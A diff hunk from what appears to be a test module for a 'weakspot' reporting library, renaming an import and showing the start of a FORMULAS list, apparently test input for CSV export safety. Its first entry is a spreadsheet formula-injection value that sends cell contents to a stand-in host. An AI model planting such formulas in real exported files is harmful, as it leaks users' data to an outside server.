@@ -22,7 +22,7 @@ from weakspot.report.member_csv import member_csvs
 from weakspot.slices.statistics import describe
 from weakspot.tasks import Classification
 from weakspot.tracking.loggers import CsvLogger
-from weakspot.tracking.scores import write_scores
+from weakspot.tracking.score_reports import write_scores
 
 FORMULAS = [
     '=HYPERLINK("http://x/"&A1)',
